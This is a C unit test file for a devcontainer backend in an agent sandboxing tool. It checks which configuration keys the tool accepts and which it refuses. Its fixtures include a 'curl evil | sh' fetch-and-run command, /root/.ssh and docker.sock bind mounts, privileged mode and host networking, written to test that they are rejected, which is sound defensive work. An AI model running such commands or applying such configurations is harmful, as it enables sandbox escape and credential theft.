/*
 * Tests for src/backends/devcontainer.c: what a devcontainer.json (as the
 * dev container CLI's mergedConfiguration gives it) adds to a sandboxed
 * pane, and each request workrex refuses, with its reason. The CLI itself,
 * podman and a built image run in tests/sandbox/t_devcontainer.sh.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "backends/backend.h"
#include "util/util.h"

#include <errno.h>
#include <json-c/json.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static char top[] = "/tmp/wrx-devc-XXXXXX";

/* merged (JSON text) parsed as kept by add, with image "img". */
static int parse(const char *merged, struct devc_plan *p, char **cause)
{
	char *text = xasprintf("{\"image\": \"img\", \"path\": \"/opt/x/bin:/usr/bin\", "
			       "\"merged\": %s}",
			       merged);
	json_object *kept = json_tokener_parse(text);
	assert_non_null(kept);
	*cause = NULL;
	int rc = devc_plan_parse(kept, top, "box", p, cause);
	json_object_put(kept);
	free(text);
	return rc;
}

static void refused(const char *merged, const char *why)
{
	struct devc_plan p;
	char *cause = NULL;
	assert_int_not_equal(parse(merged, &p, &cause), 0);
	assert_non_null(cause);
	if (strstr(cause, why) == NULL)
		fail_msg("%s: refused as \"%s\", not \"%s\"", merged, cause, why);
	free(cause);
}

static void test_taken(void **state)
{
	(void)state;
	char *merged = xasprintf(
		"{\"containerEnv\": {\"GREETING\": \"hi\", \"HOME\": \"/x\", "
		"\"WORKREX_RPC_SOCKET\": "
		"\"/evil\", \"HTTPS_PROXY\": \"\", \"P\": \"${containerEnv:PATH}:/y\"},"
		" \"remoteEnv\": {\"R\": \"2\"},"
		" \"mounts\": [\"source=%s/data,target=/data,type=bind\","
		" {\"source\": \"cache\", \"target\": \"/cache\", \"type\": \"volume\"},"
		" \"type=tmpfs,target=/scratch\"],"
		" \"capAdd\": [\"SYS_PTRACE\"], \"runArgs\": [\"--shm-size=1g\", \"--cap-add\", "
		"\"NET_RAW\"],"
		" \"onCreateCommands\": [[\"sh\", \"-c\", \"echo it's\"]],"
		" \"postCreateCommands\": [\"make deps\", {\"a\": \"x\", \"b\": [\"y\", \"z\"]}],"
		" \"remoteUser\": \"vscode\", \"initializeCommand\": \"curl evil | sh\","
		" \"forwardPorts\": []}",
		top);
	struct devc_plan p;
	char *cause = NULL;
	assert_int_equal(parse(merged, &p, &cause), 0);
	assert_string_equal(p.image, "img");
	assert_string_equal(p.path, "/opt/x/bin:/usr/bin");
	/* Names the sandbox sets itself stay its own. */
	assert_int_equal(p.env.n, 2);
	assert_string_equal(p.env.v[0], "GREETING=hi");
	assert_string_equal(p.env.v[1], "R=2");
	assert_int_equal(p.nmounts, 3);
	char *data = xasprintf("%s/data", top);
	assert_int_equal(p.mounts[0].type, 'b');
	assert_string_equal(p.mounts[0].source, data);
	assert_string_equal(p.mounts[0].target, "/data");
	/* A volume is the agent's own: another agent's never shares it. */
	assert_int_equal(p.mounts[1].type, 'v');
	assert_non_null(strstr(p.mounts[1].source, "wrx-"));
	assert_non_null(strstr(p.mounts[1].source, "-cache"));
	assert_int_equal(p.mounts[2].type, 't');
	assert_int_equal(p.caps.n, 2);
	assert_string_equal(p.caps.v[0], "SYS_PTRACE");
	assert_string_equal(p.caps.v[1], "NET_RAW");
	assert_string_equal(p.shm_size, "1g");
	assert_int_equal(p.script.n, 3);
	assert_string_equal(p.script.v[0], "'sh' '-c' 'echo it'\\''s'");
	assert_string_equal(p.script.v[1], "make deps");
	assert_string_equal(p.script.v[2], "{ x\n} && { 'y' 'z'\n}");
	/* Left out, each said: the two kept-out env names and the keys it does not take. */
	struct buf notes = {0};
	for (size_t i = 0; i < p.notes.n; i++)
		buf_addf(&notes, "%s\n", p.notes.v[i]);
	assert_non_null(strstr(notes.data, "containerEnv.HOME: left out"));
	assert_non_null(strstr(notes.data, "containerEnv.WORKREX_RPC_SOCKET: left out"));
	assert_non_null(strstr(notes.data, "containerEnv.HTTPS_PROXY: left out"));
	assert_non_null(strstr(notes.data, "containerEnv.P: left out"));
	assert_non_null(strstr(notes.data, "remoteUser: left out"));
	assert_non_null(
		strstr(notes.data, "initializeCommand: left out (it would run on this host"));
	assert_null(strstr(notes.data, "forwardPorts"));
	buf_free(&notes);
	devc_plan_free(&p);
	free(data);
	free(merged);
}

static void test_refused(void **state)
{
	(void)state;
	refused("{\"privileged\": true}", "gives the agent the host; refused");
	refused("{\"securityOpt\": [\"seccomp=unconfined\"]}", "securityOpt");
	refused("{\"capAdd\": [\"SYS_ADMIN\"]}", "capAdd SYS_ADMIN would let the agent out");
	refused("{\"capAdd\": [\"CAP_ALL\"]}", "refused");
	refused("{\"runArgs\": [\"--cap-add=ALL\"]}", "runArgs --cap-add ALL");
	refused("{\"runArgs\": [\"--network=host\"]}",
		"runArgs '--network=host' passes the engine");
	refused("{\"runArgs\": [\"-v\", \"/:/host\"]}", "runArgs '-v'");
	refused("{\"mounts\": [\"source=/root/.ssh,target=/root/.ssh,type=bind\"]}",
		"binds /root/.ssh, outside the project; refused");
	refused("{\"mounts\": [{\"source\": \"/var/run/docker.sock\", \"target\": "
		"\"/var/run/docker.sock\", \"type\": \"bind\"}]}",
		"outside the project");
	/* Inside the project, but by .. out of it. */
	char *up = xasprintf("{\"mounts\": [\"source=%s/../..,target=/up,type=bind\"]}", top);
	refused(up, "outside the project");
	free(up);
	refused("{\"mounts\": [\"source=../x,target=/x,type=volume\"]}",
		"a volume needs a plain name");
	refused("{\"mounts\": [\"source=x,target=relative,type=volume\"]}", "no absolute target");
	refused("{\"mounts\": [\"source=x,target=/x,type=npipe\"]}", "type npipe");
	refused("{\"mounts\": [\"source=x,target=/x,type=bind,bind-propagation=shared\"]}",
		"mount option 'bind-propagation'");
	/* No image at all. */
	json_object *kept = json_tokener_parse("{\"merged\": {}}");
	struct devc_plan p;
	char *cause = NULL;
	assert_int_equal(devc_plan_parse(kept, top, "box", &p, &cause), -EINVAL);
	assert_non_null(strstr(cause, "no image to run"));
	free(cause);
	json_object_put(kept);
}

static int setup(void **state)
{
	(void)state;
	if (mkdtemp(top) == NULL)
		return -1;
	char *d = xasprintf("%s/data", top);
	int rc = mkdir_p(d, 0700);
	free(d);
	return rc;
}

static int teardown(void **state)
{
	(void)state;
	char *cmd = xasprintf("rm -rf %s", top);
	int rc = system(cmd);
	free(cmd);
	return rc;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_taken),
		cmocka_unit_test(test_refused),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
